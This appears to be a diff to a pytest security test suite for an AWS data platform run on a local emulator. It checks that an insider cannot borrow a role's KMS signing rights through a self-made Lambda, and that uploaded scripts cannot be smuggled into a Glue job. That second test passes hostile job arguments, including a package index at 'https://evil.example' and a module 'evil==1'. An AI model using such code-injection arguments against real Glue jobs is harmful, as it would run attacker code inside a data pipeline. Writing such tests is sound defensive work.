@@ -7,10 +7,12 @@ from __future__ import annotations
 
 import gzip
 import hashlib
+import io
 import json
 import shutil
 import time
 import urllib.request
+import zipfile
 from collections.abc import Mapping
 from dataclasses import replace
 from datetime import UTC, datetime, timedelta
@@ -105,8 +107,15 @@ def test_airflow_reads_the_settings(aws: LocalAws) -> None:
     s3 = aws.client("s3", "platform-engineer")
     listed = s3.list_objects_v2(Bucket=bucket("artifacts"), Prefix=f"{location}/")["Contents"]
     assert [item["Key"].removeprefix(f"{location}/") for item in listed] == [
+        "SHA256SUMS",
         "contracts/customers.odcs.yaml",
         "custody.zip",
+        "jobs/audit.py",
+        "jobs/bronze_to_silver.py",
+        "jobs/reconcile.py",
+        "jobs/record_large.py",
+        "jobs/silver_to_gold.py",
+        "modules.gluewheels.zip",
         "sql/gold/customers_by_country_month.sql",
     ]
 
@@ -236,48 +245,59 @@ def test_airflow_sees_bronze_but_does_not_read_it(s3_of: dict[str, Any]) -> None
     assert answer(airflow.get_object, Bucket=raw, Key=f"{DAY}/seen.csv") == "AccessDenied"
 
 
-@pytest.mark.parametrize(
-    ("key", "signers"), [("signing", {"recorder", "recorder-large"}), ("lineage", {"glue"})]
-)
-def test_a_key_signs_for_its_roles_and_not_even_for_an_administrator(
-    aws: LocalAws, key: str, signers: set[str]
-) -> None:
-    alias = f"alias/custody-local-{key}"
-    arn = aws.client("kms", "platform-engineer").describe_key(KeyId=alias)["KeyMetadata"]["Arn"]
-    clients = {who: aws.client("kms", who) for who in ("insider", "airflow", "web-shop")}
-    clients |= {role: aws.role_client("kms", role) for role in ROLES}
-    answers = {
-        who: answer(
-            kms.sign,
-            KeyId=arn,
-            Message=bytes(32),
-            MessageType="DIGEST",
-            SigningAlgorithm="ECDSA_SHA_256",
-        )
-        for who, kms in clients.items()
-    }
-    assert {answers.pop(role) for role in signers} == {"ok"}
-    assert set(answers.values()) == {"AccessDeniedException"}
+def test_the_recorders_role_signs_nothing_in_another_function(aws: LocalAws) -> None:
+    code = (
+        "import boto3\n"
+        "def handler(key, _context):\n"
+        "    kms = boto3.client('kms')\n"
+        "    return kms.sign(KeyId=key, Message=bytes(32), MessageType='DIGEST',\n"
+        "                    SigningAlgorithm='ECDSA_SHA_256')['KeyId']\n"
+    )
+    archive = io.BytesIO()
+    with zipfile.ZipFile(archive, "w") as zipped:
+        zipped.writestr("mine.py", code)
+    insider = aws.client("lambda", "insider")
+    insider.create_function(
+        FunctionName="mine",
+        Role=role_arn("recorder"),
+        Runtime="python3.12",
+        Handler="mine.handler",
+        Code={"ZipFile": archive.getvalue()},
+        Timeout=60,
+    )
+    key = json.dumps(settings_of(aws)["signing_key_arn"])
+    said = insider.invoke(FunctionName="mine", Payload=key)["Payload"].read().decode()
+    assert "AccessDeniedException" in said, said
+    assert "kms:Sign" in said, said
 
 
-def test_only_the_role_that_audits_seals_not_even_an_administrator(aws: LocalAws) -> None:
-    alias = "alias/custody-local-seal"
-    key = aws.client("kms", "platform-engineer").describe_key(KeyId=alias)["KeyMetadata"]
-    assert (key["KeySpec"], key["KeyUsage"]) == ("ECC_NIST_EDWARDS25519", "SIGN_VERIFY")
-    clients = {who: aws.client("kms", who) for who in ("insider", "airflow", "web-shop")}
-    clients |= {role: aws.role_client("kms", role) for role in ROLES}
-    answers = {
-        who: answer(
-            kms.sign,
-            KeyId=key["Arn"],
-            Message=b"checkpoint",
-            MessageType="RAW",
-            SigningAlgorithm="ED25519_SHA_512",
-        )
-        for who, kms in clients.items()
+def test_who_starts_a_job_brings_no_code(aws: LocalAws) -> None:
+    """An uploader's file is what Glue's role may read, and Airflow may start the job."""
+    key = f"{DAY}/mine.py"
+    uploader = aws.client("s3", "web-shop")
+    uploader.put_object(Bucket=bucket("raw"), Key=key, Body=b"raise SystemExit('mine ran')\n")
+    mine = f"s3://{bucket('raw')}/{key}"
+    glue, name = aws.client("glue", "airflow"), "custody-local-bronze-to-silver"
+    arguments = {
+        "--scriptLocation": mine,
+        "--extra-py-files": mine,
+        "--additional-python-modules": "evil==1",
+        "--python-modules-installer-option": "--index-url=https://evil.example",
+        "--code_location": f"s3://{bucket('raw')}/{DAY}",
+        "--dataset": "nothing",
+        "--dt": "2026-11-01",
     }
-    assert answers.pop("audit") == "ok"
-    assert set(answers.values()) == {"AccessDeniedException"}
+    run = glue.start_job_run(JobName=name, Arguments=arguments)["JobRunId"]
+    deadline, state = time.monotonic() + PATIENCE_SECONDS, {"JobRunState": "STARTING"}
+    while state["JobRunState"] in ("STARTING", "RUNNING") and time.monotonic() < deadline:
+        time.sleep(0.2)
+        state = glue.get_job_run(JobName=name, RunId=run)["JobRun"]
+    # The platform's own script ran, with the platform's modules, and looked into its own bundle.
+    wanted = f"{settings_of(aws)['code_location']}/contracts/nothing.odcs.yaml"
+    assert (state["JobRunState"], state.get("ErrorMessage")) == (
+        "FAILED",
+        f"ObjectAbsent: there is no {wanted}",
+    )
 
 
 @pytest.mark.parametrize(
@@ -315,6 +335,21 @@ def test_only_airflow_pages(aws: LocalAws) -> None:
         "insider": "AuthorizationError",
         "web-shop": "AuthorizationError",
     }
+
+
+def test_nobody_tells_the_recorder_of_objects_but_s3(aws: LocalAws) -> None:
+    """Who deploys may, to send dead letters back."""
+    answers = {}
+    for queue in ("recorder", "recorder-dlq"):
+        url = aws.client("sqs", "insider").get_queue_url(QueueName=f"custody-local-{queue}")
+        answers[queue] = {
+            who: answer(
+                aws.client("sqs", who).send_message, QueueUrl=url["QueueUrl"], MessageBody="{}"
+            )
+            for who in ("insider", "airflow", "web-shop", "platform-engineer")
+        }
+    assert answers["recorder"].pop("platform-engineer") == "ok"
+    assert {said for who in answers.values() for said in who.values()} == {"AccessDenied"}
 
 
 def test_who_changes_the_signing_key_is_in_the_trail(aws: LocalAws) -> None:
